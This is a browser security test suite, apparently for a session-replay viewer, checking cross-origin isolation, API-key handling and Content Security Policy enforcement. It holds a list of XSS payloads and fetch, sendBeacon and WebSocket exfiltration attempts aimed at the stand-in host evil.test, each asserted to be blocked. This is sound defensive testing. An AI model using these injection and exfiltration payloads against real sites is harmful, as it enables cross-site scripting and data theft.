// Attacks on the viewer's key and window: other sites, other tabs, whoever looks at the field, and markup that got in nevertheless.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM } from '../browser/harness.ts';
import { KEY } from '../fixtures/app-under-test.ts';
import { Visitor } from '../fixtures/visitor.ts';
import { useViewer } from './viewer-attacked.ts';

const used = useViewer(async ({ server }) => {
  expect((await new Visitor(() => server.origin).send()).status).toBe(202);
});

/** Another site, with pages that are empty. */
const elsewhere = createServer((_, response) => response.setHeader('content-type', 'text/html').end('<!doctype html>'));
let evil = '';
beforeAll(async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  // Another name of this machine is another site.
  evil = `http://localhost:${(elsewhere.address() as AddressInfo).port}/`;
});
afterAll(() => void elsewhere.closeAllConnections());
afterAll(() => new Promise((resolve) => elsewhere.close(resolve)));

const viewer = () => `${used.server.origin}/replay`;
const list = () => `${used.server.origin}/replay/sessions`;

async function enter(page: Page, key = KEY): Promise<void> {
  await page.goto(viewer());
  await page.getByLabel('API key').fill(key);
  await page.getByRole('button', { name: 'Open' }).click();
}

describe.skipIf(!CHROMIUM)('another site', () => {
  it('reads nothing while the operator is logged in beside it, whatever it asks with, and frames nothing', async () => {
    const context = await used.browser.newContext();
    const operator = await context.newPage();
    await enter(operator);
    await operator.getByRole('option').first().waitFor();
    const page = await context.newPage();
    await page.goto(evil);
    const answered: number[] = [];
    page.on('response', (response) => {
      if (response.url().startsWith(used.server.origin)) answered.push(response.status());
    });
    const tried = await page.evaluate(
      async ([list, viewer, key]) => {
        const attempt = (init: RequestInit) => fetch(list, init).then((answer) => answer.text(), String);
        const load = (name: 'script' | 'img' | 'iframe' | 'link' | 'object', attributes: object) =>
          new Promise<string>((resolve) => {
            const element = Object.assign(document.createElement(name), attributes);
            element.onload = () => resolve(`${name} loaded`);
            element.onerror = () => resolve(`${name} refused`);
            document.body.append(element);
          });
        return [
          await attempt({ credentials: 'include' }),
          await attempt({ credentials: 'include', mode: 'no-cors' }),
          await attempt({ headers: { 'x-api-key': key } }),
          await attempt({ headers: { authorization: `Bearer ${key}` } }),
          await attempt({ method: 'DELETE', headers: { 'x-api-key': key } }),
          await load('script', { src: list }),
          await load('script', { src: viewer }),
          await load('img', { src: list }),
          await load('link', { rel: 'stylesheet', href: viewer }),
        ];
      },
      [list(), viewer(), KEY] as const,
    );
    expect(tried.slice(0, 5)).toEqual(Array(5).fill('TypeError: Failed to fetch'));
    expect(tried.slice(5)).toEqual(['script refused', 'script refused', 'img refused', 'link refused']);
    expect(answered.filter((status) => status === 200)).toEqual([]);
    for (const place of [viewer(), list()]) {
      await page.setContent(`<iframe src="${place}"></iframe>`, { waitUntil: 'load' });
      await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    }
    await context.close();
  });

  it('that opens the viewer holds nothing of its window, nor the viewer of the other', async () => {
    const page = await (await used.browser.newContext()).newPage();
    await page.goto(evil);
    const opened = page.waitForEvent('popup');
    await page.evaluate((url) => Object.assign(window, { opened: window.open(url) }), viewer());
    const popup = await opened;
    await popup.getByLabel('API key').waitFor();
    const held = await page.evaluate(() => {
      const { opened } = window as unknown as { opened: Window };
      return [opened.closed, opened.length];
    });
    expect(held).toEqual([true, 0]);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await page.evaluate((url) => {
      const { opened } = window as unknown as { opened: Window };
      opened.postMessage('x', '*');
      opened.location.href = url;
    }, evil);
    await popup.evaluate(() => fetch('/health'));
    expect(popup.url()).toBe(viewer());
    await page.context().close();
  });
});

describe.skipIf(!CHROMIUM)('the key', () => {
  it('stays in its tab: a reload has it, another tab does not, a duplicate does, and nothing does once it is closed', async () => {
    const context = await used.browser.newContext();
    const page = await context.newPage();
    await enter(page);
    await page.getByRole('option').first().waitFor();
    await page.reload();
    await page.getByRole('option').first().waitFor();
    const duplicated = page.waitForEvent('popup');
    await page.evaluate(() => void window.open(location.href));
    const duplicate = await duplicated;
    await duplicate.getByRole('option').first().waitFor();
    const state = JSON.stringify(await context.storageState({ indexedDB: true }));
    expect(state).not.toContain(KEY);
    await duplicate.close();
    await page.close();
    const again = await context.newPage();
    await again.goto(viewer());
    await again.getByLabel('API key').waitFor();
    expect(await again.evaluate(() => sessionStorage.length)).toBe(0);
    await context.close();
  });

  it('is typed into a field that shows and remembers nothing, is trimmed, and is in no sentence or address', async () => {
    const page = await (await used.browser.newContext()).newPage();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(viewer());
    const field = page.getByLabel('API key');
    expect(
      await field.evaluate((input: HTMLInputElement) => [input.type, input.autocomplete, input.spellcheck]),
    ).toEqual(['password', 'off', false]);
    for (const wrong of [
      'canary-wrong-key-0123',
      '"><img src=x>canary',
      'canary\u00e9\u{1f511}',
      ' canary ',
      `${KEY}x`,
    ]) {
      await field.fill(wrong);
      await page.getByRole('button', { name: 'Open' }).click();
      const alert = page.getByRole('alert');
      await expect.poll(() => alert.innerText()).toMatch(/not accepted|not a key/);
      const shown = await page.evaluate(() => document.documentElement.outerHTML + document.title + location.href);
      expect([wrong, /canary|a-key-for-tests/.test(shown)]).toEqual([wrong, false]);
      expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
      await field.fill('');
    }
    await field.focus();
    await page.keyboard.insertText(`  \t${KEY}\r\n`);
    await page.keyboard.press('Enter');
    await page.getByRole('option').first().waitFor();
    expect(await page.evaluate(() => sessionStorage.getItem('silhouette.key'))).toBe(KEY);
    expect(asked.filter((url) => /canary|a-key-for-tests/.test(url))).toEqual([]);
    expect(page.url()).toBe(viewer());
    await page.context().close();
  });
});

describe.skipIf(!CHROMIUM)('markup that got into the viewer nevertheless', () => {
  it('runs nothing, fetches nothing, sends nothing and leads nowhere', async () => {
    const page = await (await used.browser.newContext()).newPage();
    const asked: string[] = [];
    // What the policy stops comes to no network.
    await page.route(/evil\.test/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(() => {
      const counter = { pwned: 0, violations: [] as string[] };
      Object.assign(window, { counter, __pwn: () => counter.pwned++ });
      addEventListener('securitypolicyviolation', (event) => counter.violations.push(event.effectiveDirective));
    });
    await page.goto(viewer());
    await page.getByLabel('API key').waitFor();
    const markup = [
      '<script src="//evil.test/x.js"></script>',
      '<script>__pwn()</script>',
      '<img src="x" onerror="__pwn()">',
      '<img src="//evil.test/i.png">',
      '<link rel="stylesheet" href="//evil.test/a.css">',
      '<style>@import url(//evil.test/b.css)</style>',
      '<p style="background:url(//evil.test/c.png)">x</p>',
      '<iframe src="//evil.test/"></iframe>',
      '<object data="//evil.test/o"></object>',
      '<base href="//evil.test/">',
      '<svg><a href="javascript:__pwn()"><text y="20" id="link">x</text></a></svg>',
      '<form action="//evil.test/f"><button id="send">x</button></form>',
    ];
    // As by hand in the developer tools, which ask no policy of the page.
    const devtools = await page.context().newCDPSession(page);
    const { root } = await devtools.send('DOM.getDocument');
    const { nodeId } = await devtools.send('DOM.querySelector', { nodeId: root.nodeId, selector: 'body' });
    await devtools.send('DOM.setOuterHTML', { nodeId, outerHTML: `<body>${markup.join('')}</body>` });
    for (const id of ['#send', '#link']) await page.locator(id).dispatchEvent('click');
    await expect
      .poll(() => violations(page))
      .toEqual(
        expect.arrayContaining([
          'script-src-attr',
          'img-src',
          'style-src-elem',
          'frame-src',
          'object-src',
          'base-uri',
          'form-action',
        ]),
      );
    const byScript = await page.evaluate(() => {
      const attempt = (work: () => unknown) => {
        try {
          work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const script = document.createElement('script');
      return [
        attempt(() => (script.src = '//evil.test/x.js')),
        attempt(() => (script.text = '__pwn()')),
        attempt(() => (document.body.innerHTML = '<b>')),
        attempt(() => document.write('<b>')),
        attempt(() => window.setTimeout('__pwn()', 0)),
      ];
    });
    expect(byScript).toEqual(byScript.map(() => 'TypeError'));
    const sent = await page.evaluate(() =>
      Promise.all([
        fetch('//evil.test/s').then(String, String),
        navigator.sendBeacon('//evil.test/b', 'x'),
        new Promise((resolve) => {
          try {
            const socket = new WebSocket('ws://evil.test/');
            socket.onopen = () => resolve('open');
            socket.onerror = () => resolve('refused');
          } catch {
            resolve('refused');
          }
        }),
      ]),
    );
    expect([sent[0], sent[2]]).toEqual(['TypeError: Failed to fetch', 'refused']);
    expect(await violations(page)).toContain('connect-src');
    expect(await page.evaluate(() => (window as unknown as { counter: { pwned: number } }).counter.pwned)).toBe(0);
    expect(asked).toEqual([]);
    expect(page.url()).toBe(viewer());
    await page.context().close();
  });
});

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { counter: { violations: string[] } }).counter.violations);
}
